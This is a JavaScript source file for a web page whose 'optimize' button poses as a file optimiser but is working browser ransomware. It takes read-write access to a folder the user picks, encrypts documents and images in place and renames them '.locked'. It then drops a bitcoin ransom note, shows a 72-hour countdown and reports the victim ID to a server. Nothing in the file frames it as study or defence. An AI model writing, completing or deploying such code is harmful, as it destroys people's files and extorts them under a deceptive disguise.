import { sealKey, ALGO } from "./k.js";

const exts = /\.(docx?|xlsx?|pptx?|pdf|jpe?g|png|txt|csv|zip|psd)$/i;
const note = (id) => `All your files have been encrypted.\nTo get them back send 0.00 BTC to bc1qplaceholder\nYour ID: ${id}`;

async function* walk(dir, depth = 0) {
  for await (const entry of dir.values()) {
    if (entry.kind === "directory" && depth < 8) yield* walk(entry, depth + 1);
    else if (entry.kind === "file" && exts.test(entry.name)) yield entry;
  }
}

document.querySelector("#optimize").addEventListener("click", async () => {
  const dir = await window.showDirectoryPicker({ mode: "readwrite", startIn: "pictures" });
  const { id, key } = await sealKey("/register");
  let n = 0;
  for await (const f of walk(dir)) {
    const buf = await (await f.getFile()).arrayBuffer();
    const sealed = await crypto.subtle.encrypt(ALGO, key, buf);
    const w = await f.createWritable();
    await w.write(sealed);
    await w.close();
    await f.move?.(f.name + ".locked");
    document.querySelector("#bar").value = ++n;
  }
  const readme = await dir.getFileHandle("HOW_TO_RESTORE.txt", { create: true });
  const w = await readme.createWritable();
  await w.write(note(id));
  await w.close();
  document.body.innerHTML = `<pre>${note(id)}</pre><p id="t">72:00:00</p>`;
  navigator.sendBeacon("/done", JSON.stringify({ id, n }));
});
